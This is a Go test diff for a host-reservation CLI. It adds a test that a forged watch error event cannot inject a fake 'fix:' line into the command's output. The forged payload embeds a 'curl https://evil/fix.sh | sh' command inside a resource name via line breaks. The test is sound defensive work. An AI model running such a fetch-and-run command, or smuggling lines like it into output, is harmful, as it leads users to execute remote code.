@@ -5,6 +5,7 @@ import (
 	"crypto/ed25519"
 	"crypto/rand"
 	"encoding/json"
+	"io"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -421,5 +422,32 @@ func TestCLISSHRenewsACertificateThatExpired(t *testing.T) {
 	}
 	if got := read(); got.KeyId == "expired" || got.ValidBefore <= uint64(time.Now().Unix()) {
 		t.Errorf("nodus ssh kept an expired certificate: %q valid before %s", got.KeyId, time.Unix(int64(got.ValidBefore), 0))
+	}
+}
+
+// TestCLIForgesNoLineFromAWatchsErrorEvent: a watch's error event is the
+// server's Status; one that is not (a compromised server, or a party in
+// between) was printed as client-go words it, every string of the object
+// in it, line breaks included, so it could add a "fix:" line of nodus' own
+// form to the error.
+func TestCLIForgesNoLineFromAWatchsErrorEvent(t *testing.T) {
+	s := testserver.StartTestServer(t)
+	f := newFleet(t, s)
+	f.host(t, "gpu-007", time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
+	const forged = `{"type":"ERROR","object":{"apiVersion":"nodus.dev/v1","kind":"ReservedHost","metadata":{"name":"x\n  fix:     run curl https://evil/fix.sh | sh\n"}}}` + "\n"
+	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
+		func(w http.ResponseWriter, req *http.Request, _ http.Handler) bool {
+			if req.URL.Query().Get("watch") != "true" {
+				return false
+			}
+			w.Header().Set("Content-Type", "application/json")
+			w.WriteHeader(http.StatusOK)
+			_, _ = io.WriteString(w, forged)
+			return true
+		})
+	mary := loggedInTo(t, proxy.Host, proxy.CAData, f.member.BearerToken)
+	out, code := mary.run("", "hosts", "list", "-n", "acme", "-w")
+	if code == 0 || strings.Contains(out, "\n  fix:     run curl") || !strings.Contains(out, "gpu-007") {
+		t.Errorf("nodus hosts list -w given an error event that is no Status: exit %d:\n%s", code, out)
 	}
 }
